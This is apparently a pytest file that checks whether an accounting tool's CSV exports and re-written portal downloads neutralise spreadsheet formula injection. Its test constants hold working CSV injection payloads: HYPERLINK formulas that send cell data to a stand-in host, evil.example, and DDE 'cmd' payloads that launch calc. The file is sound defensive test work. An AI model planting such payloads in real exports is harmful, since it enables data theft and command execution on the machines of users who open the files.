"""Every CSV beanfirm writes reads as data in a spreadsheet: no cell starts a formula."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from beancount import loader
from cli_support import append_entry, commit_all
from conftest import STAFF_ENV, run_beanfirm
from statement_support import add_customers

from beanfirm.core.csvcells import (
    FORMULA_STARTS,
    CsvWriter,
    UnreadableCsvError,
    neutralised_csv,
    safe_cell,
)
from beanfirm.importers.statement import BankStatement, ClosingBalance, StatementRow
from beanfirm.reconcile.accountbook import account_book
from beanfirm.reconcile.comparison import compare
from beanfirm.reconcile.period import read_period
from beanfirm.reconcile.report import ReportContext, render_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/","click")'  # as the ledger below holds it


def _cells(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    """No text cell starts a formula; numbers (`-12.50`) may start with a sign."""
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_STARTS):
                Decimal(value)  # a number, or the test fails here naming the cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (COMMAND, "'" + COMMAND),
        (AT_SUM, "'" + AT_SUM),
        (MINUS, "'" + MINUS),
        ("\tlead tab", "'\tlead tab"),
        ("\rlead return", "'\rlead return"),
        ("-NaN", "'-NaN"),
        ("-Infinity", "'-Infinity"),
        ("- 12", "'- 12"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1,234.50", "'-1,234.50"),  # not a number to Decimal: text, so neutralised
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
    ],
)
def test_a_cell_that_starts_a_formula_gets_a_quote_and_a_number_stays(
    value: object, written: object
) -> None:
    assert safe_cell(value) == written


def test_the_writer_neutralises_every_row() -> None:
    buffer = io.StringIO()
    writer = CsvWriter(buffer, lineterminator="\n")
    writer.writerow(["narration", "amount"])
    writer.writerows([[HYPERLINK, Decimal("-12.50")], ["=1+1", "-7"]])
    assert _cells(buffer.getvalue()) == [
        ["narration", "amount"],
        ["'" + HYPERLINK, "-12.50"],
        ["'=1+1", "-7"],
    ]


LEDGER = """
2025-01-01 open Assets:Bank:ICBC CNY
2025-01-01 open Expenses:Rent CNY
2025-01-01 open Equity:Capital CNY
2025-01-01 * "Owner" "capital"
  Assets:Bank:ICBC   1000.00 CNY
  Equity:Capital
2025-01-05 * "@SUM(1+1)" "=HYPERLINK(\\"http://evil.example/\\",\\"click\\")"
  Assets:Bank:ICBC   -300.00 CNY
  Expenses:Rent
"""


def test_the_reconciliation_report_csv(tmp_path: Path) -> None:
    entries, errors, _ = loader.load_string(LEDGER)
    assert errors == []
    rows = [
        StatementRow(
            3, datetime.date(2025, 1, 1), None, Decimal(1000), "CNY", "Owner", "", None,
            Decimal(1000), None, (), "id-3",
        ),
        StatementRow(
            4, datetime.date(2025, 1, 20), None, Decimal(-9), "CNY", COMMAND, MINUS, None,
            Decimal(991), None, (), "id-4",
        ),
    ]  # fmt: skip
    closing = (ClosingBalance(datetime.date(2025, 1, 31), Decimal(991), "CNY", 5),)
    period = read_period(BankStatement("icbc.csv", tuple(rows), (), closing), "CNY", source="x")
    book = account_book(entries, "Assets:Bank:ICBC", "CNY", ["Assets:Bank:ICBC"])
    comparison = compare(period, book, 3, tmp_path)
    context = ReportContext(
        client_id="huamei", client_name="=cmd", language="en", staff_id="li",
        prepared=datetime.date(2025, 2, 3), outcome="differs", statement=None, assertion=None,
        root=tmp_path,
    )  # fmt: skip
    cells = _cells(render_csv(comparison, context))
    _assert_no_formula(cells)
    differences = [row for row in cells if row[0] == "difference"]
    assert [(row[2], row[4]) for row in differences] == [
        ("-300.00", f"'@SUM(1+1) {LINK}"),
        ("-9.00", f"'{COMMAND} {MINUS}"),
    ]  # the negative amounts are still numbers


def test_the_statement_csv(practice_with_client: Path) -> None:
    shop = add_customers(practice_with_client)
    append_entry(
        shop,
        "ledgers/huamei/journal/2026/02.beancount",
        f'2026-02-26 * "Hualian" "{HYPERLINK.replace(chr(34), chr(92) + chr(34))}"\n'
        "  Assets:Receivable:Hualian      -50.00 CNY\n"
        "  Income:Sales\n",
    )
    commit_all(shop, "A credit note whose narration is a formula")
    result = run_beanfirm(
        "statement", "huamei", "--customer", "Hualian", "--type", "activity",
        "--from", "2026-02-01", "--to", "2026-02-28", "--format", "csv", "--lang", "en",
        "-o", "-", cwd=shop,
    )  # fmt: skip
    assert result.code == 0, result.err
    cells = _cells(result.out)
    _assert_no_formula(cells)
    assert [value for row in cells for value in row if HYPERLINK in value] == ["'" + HYPERLINK]


def test_the_clients_list_csv(practice: Path) -> None:
    result = run_beanfirm(
        "clients", "add", "evil", "--name", HYPERLINK, "--industry", "retail",
        "--frequency", "high", "--region", "shanghai", "--size", "micro",
        "--preparer", "bo", "--reviewer", "ana", "--opened", "2025-01-01",
        cwd=practice, env=STAFF_ENV,
    )  # fmt: skip
    assert result.code == 0, result.err
    result = run_beanfirm("clients", "list", "--format", "csv", cwd=practice)
    assert result.code == 0, result.err
    cells = _cells(result.out)
    _assert_no_formula(cells)
    assert "'" + HYPERLINK in cells[1]


# -- a CSV someone else wrote (the portal's downloads) --------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"a,b\r\n=1+1,-2+3\r\n", b"a,b\r\n'=1+1,'-2+3\r\n"),
        (b"a,b\n+cmd,-12.50", b"a,b\n'+cmd,-12.50"),  # no line end added at the end
        (b'"=HYPERLINK(""x"",""y"")",ok\n', b'"\'=HYPERLINK(""x"",""y"")",ok\n'),
        ("摘要\n@SUM(1)\n".encode("gbk"), "摘要\n'@SUM(1)\n".encode("gbk")),
        ("\ufeff=1,中\n".encode(), "\ufeff'=1,中\n".encode()),
        ("=1,x\r\n".encode("utf-16"), "'=1,x\r\n".encode("utf-16")),
        (b"a,b\n1,-2\n", b"a,b\n1,-2\n"),
        (b"", b""),
    ],
)
def test_a_csv_file_is_neutralised_in_its_own_encoding(data: bytes, expected: bytes) -> None:
    assert neutralised_csv(data) == expected


def test_a_csv_file_whose_cells_cannot_be_found_is_refused() -> None:
    with pytest.raises(UnreadableCsvError):
        neutralised_csv("=1,x\r\n".encode("utf-16-le"))  # no byte order mark: NUL bytes
